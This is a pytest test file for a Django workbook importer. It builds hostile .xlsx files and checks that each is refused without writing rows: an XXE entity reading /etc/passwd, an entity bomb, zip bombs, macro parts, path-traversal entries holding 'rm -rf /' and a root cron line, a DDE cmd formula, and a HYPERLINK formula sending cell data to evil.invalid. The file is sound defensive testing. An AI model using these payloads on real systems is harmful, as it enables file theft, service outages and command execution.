"""Hostile workbooks (issue #9, item 4): each is refused with a clear `file!0: …` or cell
message, by the command and by the browser path alike, and not one row is written anywhere.
Well-formed workbooks that reach past the uploader's role (issue 14) are refused the same way.

The files are built here, from a valid workbook bent one way each; nothing in them is real.
"""

import datetime
import io
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from assessments.models import CaseState, RecognitionCase, Registration
from imports import container
from imports import services as import_services
from imports.models import ImportJob, ImportStatus
from tests import factories
from tests.imports import table, xlsx

NOT_XLSX = "file!0: file: tệp không phải là tệp Excel .xlsx (nội dung không đúng định dạng)"
DTD = "file!0: file: tệp chứa khai báo DTD/thực thể XML (không được phép trong tệp .xlsx)"
ZIP_BOMB = "file!0: file: tệp giải nén ra quá lớn (nghi là tệp “zip bomb”)"
MACROS = "file!0: file: tệp chứa macro (VBA); hãy lưu lại dạng .xlsx không có macro"
BAD_NAMES = "file!0: file: tệp có tên thành phần không hợp lệ (trùng tên hoặc đường dẫn lạ)"
TALL = (
    "hamlets!1048576: sheet: trang quá lớn: dòng cuối là dòng 1.048.576 nhưng chỉ 3 dòng có ô, "
    "vượt giới hạn 10.000 dòng trống"
)
SHEET = "xl/worksheets/sheet1.xml"
PASSWD_MARK = "root:x:0:0"


def hamlet_workbook(**values) -> bytes:
    row = {"commune_code": "20001", "name": "Thôn Hà Thử", "households": 120, **values}
    return xlsx({"hamlets": table(row)}).getvalue()


def rezip(data: bytes, *, replace=None, extra=None, names=None) -> bytes:
    """The workbook with one entry's bytes changed, entries added, or entries renamed."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            content = source.read(entry.filename)
            if replace and entry.filename == replace[0]:
                content = replace[1](content)
            target.writestr((names or {}).get(entry.filename, entry.filename), content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def in_sheet(old: bytes, new: bytes):
    def change(xml: bytes) -> bytes:
        assert old in xml
        return xml.replace(old, new)

    return (SHEET, change)


def with_doctype(doctype: bytes, old: bytes, new: bytes):
    return in_sheet(old, new)[0], lambda xml: doctype + in_sheet(old, new)[1](xml)


def billion_laughs() -> bytes:
    entities = b'<!ENTITY l0 "ha">' + b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    return rezip(
        hamlet_workbook(),
        replace=with_doctype(b"<!DOCTYPE worksheet [" + entities + b"]>", b"Th\xc3\xb4n", b"&l9;"),
    )


def external_entity() -> bytes:
    doctype = b'<!DOCTYPE worksheet [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
    return rezip(hamlet_workbook(), replace=with_doctype(doctype, b"Th\xc3\xb4n", b"&passwd;"))


def lying_zip_bomb() -> bytes:
    """An entry declaring 100 bytes that inflates to 64 MB: the declared sizes look harmless."""
    bomb = rezip(hamlet_workbook(), extra={"xl/media/image1.png": bytes(64 * 2**20)})
    archive = zipfile.ZipFile(io.BytesIO(bomb))
    entry = archive.getinfo("xl/media/image1.png")
    patched = bytearray(bomb)
    struct.pack_into("<I", patched, entry.header_offset + 22, 100)  # local header
    central = _central_header(bomb, "xl/media/image1.png")
    struct.pack_into("<I", patched, central + 24, 100)  # central directory
    return bytes(patched)


def _central_header(data: bytes, name: str) -> int:
    position = data.index(b"PK\x01\x02")
    while True:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_length] == name.encode():
            return position
        position = data.index(b"PK\x01\x02", position + 4)


def encrypted_flag() -> bytes:
    data = bytearray(hamlet_workbook())
    entry = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET)
    central = _central_header(bytes(data), SHEET)
    for flags_at in (entry.header_offset + 6, central + 8):
        flags = struct.unpack_from("<H", data, flags_at)[0]
        struct.pack_into("<H", data, flags_at, flags | 0x1)
    return bytes(data)


def duplicate_sheet_entry() -> bytes:
    data = hamlet_workbook()
    decoy = zipfile.ZipFile(io.BytesIO(data)).read(SHEET).replace(b"120", b"999")
    with pytest.warns(UserWarning, match="Duplicate name"):
        return rezip(data, extra={SHEET: decoy})


def utf16_part() -> bytes:
    return rezip(
        hamlet_workbook(),
        replace=(SHEET, lambda xml: xml.decode().encode("utf-16")),
    )


def formula(text: str) -> bytes:
    return hamlet_workbook(households=text)


HOSTILE = {
    "billion laughs entity bomb": (billion_laughs, DTD),
    "external entity (XXE) reading /etc/passwd": (external_entity, DTD),
    "zip bomb with truthful sizes": (
        lambda: rezip(hamlet_workbook(), extra={"xl/media/image1.png": bytes(300 * 2**20)}),
        ZIP_BOMB,
    ),
    "zip bomb lying about its sizes": (lying_zip_bomb, ZIP_BOMB),
    "PDF renamed .xlsx": (lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF", NOT_XLSX),
    "Windows executable renamed .xlsx": (lambda: b"MZ\x90\x00" + bytes(200), NOT_XLSX),
    "CSV renamed .xlsx": (lambda: b"commune_code,name\n20001,=cmd|'/c calc'!A1\n", NOT_XLSX),
    "empty file": (lambda: b"", NOT_XLSX),
    "truncated zip": (lambda: hamlet_workbook()[:1500], NOT_XLSX),
    "password-protected workbook (OLE compound file)": (
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096),
        "file!0: file: tệp được đặt mật khẩu hoặc là tệp Excel cũ (.xls); hãy lưu lại dạng "
        ".xlsx không đặt mật khẩu",
    ),
    ".xlsm with a VBA project": (
        lambda: rezip(hamlet_workbook(), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        MACROS,
    ),
    "Excel 4.0 macro sheet": (
        lambda: rezip(hamlet_workbook(), extra={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
        MACROS,
    ),
    "macro-enabled content type": (
        lambda: rezip(
            hamlet_workbook(),
            replace=(
                "[Content_Types].xml",
                lambda xml: xml.replace(
                    b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
                ),
            ),
        ),
        MACROS,
    ),
    "path traversal entry name": (
        lambda: rezip(hamlet_workbook(), extra={"../../evil.sh": b"rm -rf /"}),
        BAD_NAMES,
    ),
    "absolute entry name": (
        lambda: rezip(hamlet_workbook(), extra={"/etc/cron.d/evil": b"* * * * * root x"}),
        BAD_NAMES,
    ),
    "two entries with the sheet's name": (duplicate_sheet_entry, BAD_NAMES),
    "entry marked encrypted": (
        encrypted_flag,
        "file!0: file: tệp có phần được mã hóa; hãy lưu lại dạng .xlsx không đặt mật khẩu",
    ),
    "sheet XML in UTF-16": (utf16_part, NOT_XLSX),
    "value in the last cell of the sheet (XFD1048576)": (
        lambda: rezip(
            hamlet_workbook(),
            replace=in_sheet(
                b"</sheetData>",
                b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>',
            ),
        ),
        # Refused as it is scanned, before its column is looked at (test_hostile_sizes.py).
        TALL,
    ),
    **{
        f"value in the last cell, written {how}": (
            lambda cell=cell: rezip(
                hamlet_workbook(),
                replace=in_sheet(
                    b"</sheetData>", b'<row r="1048576">' + cell + b"</row></sheetData>"
                ),
            ),
            "file!0: file: trang “hamlets”: ô XFD1048576 có dữ liệu ngoài các cột của mẫu",
        )
        for how, cell in {
            "with a tab before its reference": b'<c\tr="XFD1048576"><v>1</v></c>',
            "with its reference second": b'<c t="n" r="XFD1048576"><v>1</v></c>',
            "with single quotes": b"<c r='XFD1048576'><v>1</v></c>",
            "with a namespace prefix": b'<x:c xmlns:x="urn:x"\tr="XFD1048576"><x:v>1</x:v></x:c>',
        }.items()
    },
    "far value in a sheet stored under a name that is not .xml": (
        lambda: rezip(
            rezip(
                hamlet_workbook(),
                replace=in_sheet(
                    b"</sheetData>",
                    b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
                ),
                names={SHEET: "xl/worksheets/sheet1.bin"},
            ),
            replace=(
                "xl/_rels/workbook.xml.rels",
                lambda xml: xml.replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.bin"),
            ),
        ),
        TALL,
    ),
    "sheet path with a dot-dot segment": (
        lambda: rezip(
            hamlet_workbook(),
            replace=(
                "xl/_rels/workbook.xml.rels",
                lambda xml: xml.replace(
                    b"worksheets/sheet1.xml", b"media/../worksheets/sheet1.xml"
                ),
            ),
        ),
        NOT_XLSX,
    ),
    "row number past Excel's last row": (
        lambda: rezip(
            hamlet_workbook(),
            replace=in_sheet(b'r="2"', b'r="9999999"'),
        ),
        "file!0: file: trang “hamlets”: số dòng vượt quá giới hạn của Excel",
    ),
    "DDE formula": (
        lambda: formula("=cmd|'/c calc'!A1"),
        "hamlets!2: households: ô chứa công thức chưa có giá trị tính sẵn",
    ),
    "HYPERLINK formula": (
        lambda: formula('=HYPERLINK("http://evil.invalid/?"&A2,"x")'),
        "hamlets!2: households: ô chứa công thức chưa có giá trị tính sẵn",
    ),
    "shared-string index out of range": (
        lambda: rezip(
            hamlet_workbook(),
            replace=in_sheet(
                b'<c r="B2" t="inlineStr"><is><t>Th\xc3\xb4n H\xc3\xa0 Th\xe1\xbb\xad</t></is></c>',
                b'<c r="B2" t="s"><v>4000000000</v></c>',
            ),
        ),
        "file!0: file: không đọc được tệp Excel (CalamineError)",
    ),
}


def row_counts() -> dict[str, int]:
    """Rows of every model but the upload's own job record, audit entries included."""
    return {
        model._meta.label: model._default_manager.count()
        for model in apps.get_models()
        if model is not ImportJob
    }


def run_command(path: Path, *options: str) -> tuple[int, str, str]:
    stdout, stderr = io.StringIO(), io.StringIO()
    try:
        call_command("import_workbook", str(path), *options, stdout=stdout, stderr=stderr)
    except SystemExit as exit:
        return exit.code, stdout.getvalue(), stderr.getvalue()
    return 0, stdout.getvalue(), stderr.getvalue()


@pytest.fixture
def hostile_limit(settings):
    # Small enough for the zip bombs above to be bombs, large enough for a real workbook.
    settings.IMPORT_MAX_BYTES = 1024 * 1024


@pytest.mark.parametrize("name", list(HOSTILE))
def test_the_command_refuses_the_file_and_writes_nothing(name, commune, tmp_path, hostile_limit):
    build, expected = HOSTILE[name]
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(build())
    before = row_counts()
    status, stdout, stderr = run_command(path)
    assert (status, stdout) == (1, "")
    assert stderr.splitlines()[0].startswith(expected)
    assert PASSWD_MARK not in stderr
    assert row_counts() == before


@pytest.mark.parametrize("name", list(HOSTILE))
def test_the_browser_path_refuses_the_file_and_writes_nothing(
    name, commune, portal_admin, hostile_limit, monkeypatch
):
    monkeypatch.setattr("django.db.transaction.on_commit", lambda callback, *a, **k: callback())
    build, expected = HOSTILE[name]
    before = row_counts()
    job = import_services.import_job_start(
        user=portal_admin, uploaded_file=SimpleUploadedFile("hostile.xlsx", build())
    )
    job.refresh_from_db()
    assert job.status == ImportStatus.INVALID
    assert job.errors[0].startswith(expected)
    assert PASSWD_MARK not in " ".join(job.errors)
    # Confirming a refused upload writes nothing either.
    import_services.import_job_confirm(job=job)
    job.refresh_from_db()
    assert job.status == ImportStatus.INVALID
    assert row_counts() == before


# ---- workbooks that reach past the uploader's role (issue 14, findings 1 and 5) -------------
# Well-formed files whose rows are not the uploader's to write: each is refused with one clear
# line, by the browser path and by the command run --as the same user, and writes nothing.


def hidden_sheet_workbook() -> bytes:
    """The registrations sheet hidden behind a harmless hamlets sheet."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx(ROLE_SHEETS).getvalue()))
    book["registrations"].sheet_state = "hidden"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


ROLE_SHEETS = {
    "hamlets": table({"commune_code": "20001", "name": "Thôn Mới"}),
    "registrations": table(
        {
            "commune_code": "20001",
            "year": 2025,
            "registered_on": "2025-01-10",
            "profile": "qd28-2025",
            "baseline_addicts": 0,
            "baseline_users": 0,
        },
        {"commune_code": "20001", "year": 2027, "registered_on": "2025-11-20"},
    ),
}
RECOGNISED_CHANGE = (
    "registrations!2: baseline_users: đăng ký năm 2025 của xã Công Sơn đã nộp hồ sơ công nhận "
    "hoặc đã có quyết định: không sửa được (đang lưu: 5); bỏ cột này hoặc ghi đúng giá trị đang "
    "lưu"
)


def refused_sheet(sheet: str) -> str:
    return f"{sheet}!1: sheet: chỉ Công an tỉnh được nhập trang “{sheet}”"


ROLE_ESCALATIONS = {
    "a commune officer's registrations sheet": (
        "canbo.xa",
        lambda: xlsx(ROLE_SHEETS).getvalue(),
        refused_sheet("registrations"),
    ),
    "a commune officer's registrations sheet, titled ' REGISTRATIONS '": (
        "canbo.xa",
        lambda: xlsx({" REGISTRATIONS ": ROLE_SHEETS["registrations"]}).getvalue(),
        refused_sheet("registrations"),
    ),
    "a commune officer's registrations sheet, hidden": (
        "canbo.xa",
        hidden_sheet_workbook,
        refused_sheet("registrations"),
    ),
    "a commune officer's communes sheet": (
        "canbo.xa",
        lambda: xlsx(
            {
                "communes": table(
                    {
                        "province_code": "20",
                        "province_name": "Lạng Sơn",
                        "code": "20001",
                        "name": "Công Sơn",
                        "kind": "xa",
                        "population": 999999,
                    }
                )
            }
        ).getvalue(),
        refused_sheet("communes"),
    ),
    "a commune officer's roadmap sheet": (
        "canbo.xa",
        lambda: xlsx(
            {"roadmap": table({"province_code": "20", "year": 2026, "target_communes": 0})}
        ).getvalue(),
        refused_sheet("roadmap"),
    ),
    "a provincial officer renaming the province": (
        "canbo.tinh",
        lambda: xlsx(
            {
                "communes": table(
                    {
                        "province_code": "20",
                        "province_name": "Tỉnh Khác",
                        "code": "20001",
                        "name": "Công Sơn",
                        "kind": "xa",
                    }
                )
            }
        ).getvalue(),
        "communes!2: province_name: khác tên tỉnh đang lưu “Lạng Sơn”; chỉ quản trị hệ thống "
        "được đổi tên tỉnh",
    ),
    "a provincial officer changing a recognised registration's baseline": (
        "canbo.tinh",
        lambda: xlsx(
            {
                "registrations": table(
                    {
                        "commune_code": "20001",
                        "year": 2025,
                        "registered_on": "2025-01-10",
                        "baseline_users": 0,
                    }
                )
            }
        ).getvalue(),
        RECOGNISED_CHANGE,
    ),
}


@pytest.fixture
def officers(commune, commune_officer, provincial_officer):
    """Both officers, and the commune's 2025 registration, recognised."""
    case = factories.registration_with_case(
        commune=commune,
        year=2025,
        registered_on=datetime.date(2025, 1, 10),
        profile="lang-son-2025",
        by=provincial_officer,
    )
    Registration.objects.filter(pk=case.registration_id).update(
        baseline_addicts=3, baseline_users=5
    )
    RecognitionCase.objects.filter(pk=case.pk).update(state=CaseState.APPROVED)
    return {user.username: user for user in (commune_officer, provincial_officer)}


@pytest.mark.parametrize("name", list(ROLE_ESCALATIONS))
def test_the_command_as_the_user_refuses_what_their_role_may_not_write(name, officers, tmp_path):
    username, build, expected = ROLE_ESCALATIONS[name]
    path = tmp_path / "vuot-quyen.xlsx"
    path.write_bytes(build())
    before = row_counts()
    assert run_command(path, "--as", username) == (1, "", expected + "\n")
    assert row_counts() == before


@pytest.mark.parametrize("name", list(ROLE_ESCALATIONS))
def test_the_browser_path_refuses_what_the_role_may_not_write(name, officers, monkeypatch):
    monkeypatch.setattr("django.db.transaction.on_commit", lambda callback, *a, **k: callback())
    username, build, expected = ROLE_ESCALATIONS[name]
    before = row_counts()
    job = import_services.import_job_start(
        user=officers[username], uploaded_file=SimpleUploadedFile("vuot-quyen.xlsx", build())
    )
    job.refresh_from_db()
    assert (job.status, job.errors) == (ImportStatus.INVALID, [expected])
    import_services.import_job_confirm(job=job)
    job.refresh_from_db()
    assert job.status == ImportStatus.INVALID
    assert row_counts() == before


def test_a_file_over_the_size_limit_is_refused_by_both_paths(
    commune, portal_admin, tmp_path, settings, monkeypatch
):
    monkeypatch.setattr("django.db.transaction.on_commit", lambda callback, *a, **k: callback())
    settings.IMPORT_MAX_BYTES = 2048
    path = tmp_path / "big.xlsx"
    path.write_bytes(hamlet_workbook())
    before = row_counts()
    assert run_command(path) == (1, "", "file!0: file: tệp lớn hơn giới hạn 2 KB\n")
    job = import_services.import_job_start(
        user=portal_admin, uploaded_file=SimpleUploadedFile("big.xlsx", path.read_bytes())
    )
    job.refresh_from_db()
    assert job.errors == ["file!0: file: tệp lớn hơn giới hạn 2 KB"]
    assert row_counts() == before


def test_the_xml_checks_run_before_any_spreadsheet_parser(commune, tmp_path, monkeypatch):
    """An entity bomb never reaches calamine (nor openpyxl): the container check refuses it."""

    def no_parser(*args, **kwargs):
        raise AssertionError("a parser was given a hostile file")

    monkeypatch.setattr("python_calamine.CalamineWorkbook.from_filelike", no_parser)
    monkeypatch.setattr("openpyxl.load_workbook", no_parser)
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(billion_laughs())
    assert run_command(path) == (1, "", DTD + "\n")


def test_our_own_xml_parsing_is_defused():
    import defusedxml.ElementTree
    import openpyxl

    assert container.SafeET is defusedxml.ElementTree
    # Anything else in the project reading .xlsx with openpyxl is defused too.
    assert openpyxl.DEFUSEDXML is True


def test_a_formula_is_never_evaluated_its_saved_value_is_read(commune, tmp_path):
    """Excel saves a formula with the value it computed: that value is read, the formula is
    not run (=1+1 saved as 7 reads as 7)."""
    data = rezip(
        formula("=1+1"),
        replace=in_sheet(b"<f>1+1</f><v />", b"<f>1+1</f><v>7</v>"),
    )
    path = tmp_path / "formula.xlsx"
    path.write_bytes(data)
    status, stdout, _stderr = run_command(path)
    assert status == 0
    from communes.models import Hamlet

    assert Hamlet.objects.get(name="Thôn Hà Thử").households == 7
